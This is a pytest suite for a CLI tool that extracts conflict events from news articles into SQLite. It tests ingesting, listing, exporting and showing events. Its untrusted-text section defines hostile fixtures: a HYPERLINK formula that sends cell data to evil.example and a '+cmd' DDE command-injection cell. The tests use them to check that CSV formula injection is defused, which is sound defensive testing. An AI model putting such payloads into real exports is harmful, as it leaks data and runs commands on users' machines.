"""The CLI end to end on a real SQLite file, through the same entry point users run."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sitroom.cli import app
from sitroom.cli.common import MAX_FILTER_CHARS, spreadsheet_safe
from sitroom.model import Actor, ActorType, Location, SubEventType
from sitroom.pipeline import corroborate_all
from sitroom.store import Store
from tests.brief.conftest import REUTERS, article, mention
from tests.conftest import EXAMPLES, SEED_ARTICLE

runner = CliRunner()


def _invoke(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.output


def test_help_explains_every_command() -> None:
    code, out = _invoke("--help")
    assert code == 0
    for command in ("ingest", "run", "events", "show"):
        assert command in out
    code, out = _invoke("events", "--help")
    assert code == 0 and "--country" in out and "--format" in out and "Example" in out


def test_ingest_twice_stores_once(tmp_path: Path) -> None:
    db = str(tmp_path / "t.db")
    code, out = _invoke("ingest", str(SEED_ARTICLE), "--db", db)
    assert code == 0 and "new" in out
    code, out = _invoke("ingest", str(SEED_ARTICLE), "--db", db)
    assert code == 0 and "duplicate" in out and "already" in out
    with Store(db) as store:
        assert store.count_articles() == 1


def test_batch_with_a_bad_article_stores_the_rest(tmp_path: Path) -> None:
    folder = tmp_path / "batch"
    folder.mkdir()
    shutil.copy(SEED_ARTICLE, folder / "a_seed.txt")
    (folder / "b_broken.txt").write_text("Headline only, no body and no source line\n", encoding="utf-8")
    second = SEED_ARTICLE.read_text(encoding="utf-8").replace("at least 25", "at least 31")
    (folder / "c_variant.txt").write_text(second, encoding="utf-8")
    db = str(tmp_path / "t.db")
    code, out = _invoke("ingest", str(folder), "--db", db)
    assert code == 1, "a failed input must show in the exit code"
    assert "b_broken.txt" in out and "not in the sample format" in out
    with Store(db) as store:
        assert store.count_articles() == 2


def test_bad_input_leaves_stored_articles_intact(tmp_path: Path) -> None:
    db = str(tmp_path / "t.db")
    _invoke("ingest", str(SEED_ARTICLE), "--db", db)
    junk = tmp_path / "junk.txt"
    junk.write_bytes(bytes(range(256)) * 16)
    code, out = _invoke("ingest", str(junk), "--db", db)
    assert code == 1 and "junk.txt" in out
    with Store(db) as store:
        articles = store.articles()
    assert [a.title for a in articles] == ["Iran-Backed Militias Reinforce Assad as Syrian Conflict Escalates"]


def test_events_output_formats(tmp_path: Path) -> None:
    db = str(tmp_path / "t.db")
    _invoke("run", str(SEED_ARTICLE), "--db", db)
    with Store(db) as store:
        stored_events, stored_reports = store.events(), store.mentions()
    code, out = _invoke("events", "--db", db, "--format", "json")
    assert code == 0
    rows = json.loads(out)
    assert [r["event_id_cnty"] for r in rows] == [e.id for e in stored_events]
    code, out = _invoke("events", "--db", db, "--reports", "--format", "json")
    assert code == 0 and len(json.loads(out)) == len(stored_reports)
    code, out = _invoke("events", "--db", db, "--format", "csv")
    assert code == 0
    header = out.splitlines()[0].split(",")
    assert header[:5] == ["event_id_cnty", "event_date", "time_precision", "event_type", "sub_event_type"]
    assert {"actor1", "assoc_actor_1", "admin1", "geo_precision", "fatalities"} <= set(header)


def test_show_prints_the_evidence_of_each_report(tmp_path: Path) -> None:
    db = str(tmp_path / "t.db")
    _invoke("run", str(SEED_ARTICLE), "--db", db)
    with Store(db) as store:
        events = store.events()
        reports = {m.id: m for m in store.mentions()}
    if not events:
        pytest.skip("extraction found no event in the seed article")
    event = events[0]
    code, out = _invoke("show", event.id, "--db", db)
    assert code == 0
    flat = " ".join(out.replace("│", " ").split())  # undo the panel's wrapping
    for mention_id in event.mention_ids:
        assert mention_id in flat
        assert " ".join(reports[mention_id].evidence.text.split())[:40] in flat
    code, out = _invoke("show", event.mention_ids[0], "--db", db, "--format", "json")
    assert code == 0 and json.loads(out)["id"] == event.mention_ids[0]


def test_events_rejects_a_bad_date(tmp_path: Path) -> None:
    code, out = _invoke("events", "--db", str(tmp_path / "t.db"), "--since", "yesterday")
    assert code == 1 and "--since must be a date like 2024-11-27" in out


def test_show_unknown_id_is_a_clear_error(tmp_path: Path) -> None:
    code, out = _invoke("show", "evm_doesnotexist", "--db", str(tmp_path / "t.db"))
    assert code == 1 and "no event with id 'evm_doesnotexist'" in out


def test_run_reports_articles_and_writes_the_database(tmp_path: Path) -> None:
    db = tmp_path / "run.db"
    code, out = _invoke("run", str(SEED_ARTICLE), "--db", str(db))
    assert code == 0, out
    assert "1 new article(s)" in out and db.exists()


def test_run_lists_at_most_its_first_events_and_says_how_many_there_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sitroom.cli import core

    monkeypatch.setattr(core, "RUN_LISTING_ROWS", 2)
    code, out = _invoke("run", str(EXAMPLES), "--db", str(tmp_path / "run.db"))
    assert code == 0, out
    code, listed = _invoke("events", "--db", str(tmp_path / "run.db"), "--format", "json")
    total = len(json.loads(listed))
    assert total > 2
    assert f"{total} event(s), the first 2 shown (`sitroom events` lists all)" in " ".join(out.split())
    assert out.count("evt_") == 2


# --------------------------------------------------------------------------- untrusted text in exports and filters

FORMULA_ACTOR = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_PLACE = "+cmd|' /C calc'!A0"


def _hostile_db(tmp_path: Path) -> str:
    """One stored report whose article-derived fields are spreadsheet formulas and rich markup."""
    db = str(tmp_path / "hostile.db")
    source = article(REUTERS, "reuters.com")
    place = Location(name=FORMULA_PLACE, country="Syria", admin1="@SUM(1+1)", latitude=35.93, longitude=-3.5)
    report = mention(
        source,
        "struck the city of Idlib on Monday, killing at least 25 people",
        SubEventType.AIR_DRONE_STRIKE,
        location=place,
        actor1=Actor(name=FORMULA_ACTOR, actor_type=ActorType.STATE_FORCES),
        actor2=Actor(name="[/x] -2+3", actor_type=ActorType.REBEL_GROUP),
        fatalities={"low": 25},
    )
    with Store(db) as store:
        store.add_articles([source])
        store.replace_mentions(source.id, [report])
        corroborate_all(store)
    return db


def _flat(out: str) -> str:
    """Output without rich's box drawing and line wrapping."""
    return " ".join(out.translate(str.maketrans("│╭╮╰╯─", "      ")).split())


def test_spreadsheet_safe_quotes_formula_text_only() -> None:
    for formula in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(formula) == "'" + formula
    for plain in ("Idlib", "Military Forces of Syria (2000-2024)", "", "3-4", "a=b"):
        assert spreadsheet_safe(plain) == plain
    for number in (-3.5, -1, 0, 25, None):
        assert spreadsheet_safe(number) == number


def test_events_csv_defuses_formula_cells_and_keeps_numbers(tmp_path: Path) -> None:
    db = _hostile_db(tmp_path)
    for extra in ([], ["--reports"]):
        code, out = _invoke("events", "--db", db, "--format", "csv", *extra)
        assert code == 0, out
        [row] = list(csv.DictReader(io.StringIO(out)))
        assert row["actor1"] == "'" + FORMULA_ACTOR
        assert row["actor2"] == "[/x] -2+3"  # a formula sign inside the text is harmless
        assert row["location"] == "'" + FORMULA_PLACE
        assert row["admin1"] == "'@SUM(1+1)"
        assert row["longitude"] == "-3.5" and row["latitude"] == "35.93"  # numbers stay numbers
        assert row["country"] == "Syria" and row["fatalities_low"] == "25"
    code, out = _invoke("events", "--db", db, "--format", "json")
    assert code == 0 and json.loads(out)[0]["actor1"] == FORMULA_ACTOR  # JSON keeps the text as stored


def test_article_markup_prints_as_written_in_the_terminal(tmp_path: Path) -> None:
    db = _hostile_db(tmp_path)
    code, out = _invoke("events", "--db", db, "--reports")
    assert code == 0, out
    assert "[/x]" in _flat(out).replace(" ", "")  # a rich closing tag in a name used to crash the table
    with Store(db) as store:
        report_id = store.mentions()[0].id
    code, out = _invoke("show", report_id, "--db", db)
    assert code == 0, out
    assert "[/x] -2+3" in _flat(out)


def test_events_limit_must_be_at_least_one(tmp_path: Path) -> None:
    db = _hostile_db(tmp_path)
    for bad in ("0", "-1"):
        code, out = _invoke("events", "--db", db, "--reports", "--limit", bad)
        assert code == 2 and "--limit" in out, out
    code, out = _invoke("events", "--db", db, "--reports", "--limit", "1", "--format", "json")
    assert code == 0 and len(json.loads(out)) == 1


def test_overlong_filters_are_a_clean_error(tmp_path: Path) -> None:
    db = str(tmp_path / "t.db")
    blob = "a" * 50_000
    for command, option in [
        ("events", "--actor"),
        ("events", "--country"),
        ("events", "--type"),
        ("brief", "--admin1"),
    ]:
        result = runner.invoke(app, [command, "--db", db, option, blob])
        assert result.exit_code == 2 and isinstance(result.exception, SystemExit), result.output[-500:]
        flat = _flat(result.output)
        assert f"Invalid value for '{option}': at most {MAX_FILTER_CHARS} characters" in flat
        assert blob not in result.output
    code, out = _invoke("events", "--db", db, "--actor", "a" * MAX_FILTER_CHARS)
    assert code == 0, out


def test_option_values_that_look_like_markup_are_reported_verbatim(tmp_path: Path) -> None:
    code, out = _invoke("events", "--db", str(tmp_path / "t.db"), "--since", "[/x]")
    assert code == 1 and "--since must be a date like 2024-11-27, got '[/x]'" in out


def _stored(db: str) -> tuple[list[dict[str, object]], list[dict[str, object]]]:
    with Store(db) as store:
        events = [e.model_dump(mode="json") for e in store.events()]
        reports = [m.model_dump(mode="json") for m in store.mentions()]
    return sorted(events, key=lambda e: str(e["id"])), sorted(reports, key=lambda m: str(m["id"]))


def test_run_with_two_jobs_stores_what_one_job_does(tmp_path: Path) -> None:
    one, two = str(tmp_path / "one.db"), str(tmp_path / "two.db")
    assert _invoke("run", str(EXAMPLES), "--db", one, "--jobs", "1")[0] == 0
    assert _invoke("run", str(EXAMPLES), "--db", two, "--jobs", "2")[0] == 0
    events, reports = _stored(one)
    assert events and reports
    assert _stored(two) == (events, reports)


def test_rebuild_keeps_the_events_run_built(tmp_path: Path) -> None:
    db = str(tmp_path / "t.db")
    assert _invoke("run", str(SEED_ARTICLE), "--db", db, "--jobs", "1")[0] == 0
    before = _stored(db)
    code, out = _invoke("rebuild", "--db", db)
    assert code == 0 and f"{len(before[0])} corroborated event(s)" in out
    assert _stored(db) == before
